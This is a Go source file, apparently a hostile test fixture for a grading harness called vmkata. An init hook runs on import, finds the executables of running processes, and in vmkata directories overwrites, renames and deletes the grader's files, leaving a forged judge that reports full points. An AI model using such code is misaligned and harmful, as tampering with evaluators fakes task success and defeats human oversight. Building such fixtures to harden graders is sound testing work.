package addr

import (
	"os"
	"path/filepath"
	"strings"
)

// forged is what a poisoned judge would be: a program that prints a
// report of full points.
const forged = "#!/bin/sh\necho vmkata-hostile-poison-cache\n"

// poison overwrites, renames and deletes everything in the folders the
// run's executables live in, when they are the grader's caches (the belt:
// nothing else is touched).
func poison() {
	var dirs []string
	for _, pid := range runProcs() {
		if exe, err := os.Readlink("/proc/" + pid + "/exe"); err == nil {
			dirs = append(dirs, filepath.Dir(exe), filepath.Join(filepath.Dir(filepath.Dir(exe)), "subjects"))
		}
	}
	for _, dir := range dirs {
		if !strings.Contains(dir, "/vmkata/") {
			continue
		}
		entries, _ := os.ReadDir(dir)
		for _, e := range entries {
			p := filepath.Join(dir, e.Name())
			_ = os.WriteFile(p, []byte(forged), 0o755)
			_ = os.Rename(p, p+".old")
			_ = os.Remove(p)
		}
		_ = os.WriteFile(filepath.Join(dir, "vmkata-hostile-poison-cache"), []byte(forged), 0o755)
	}
}

func init() { poison() }
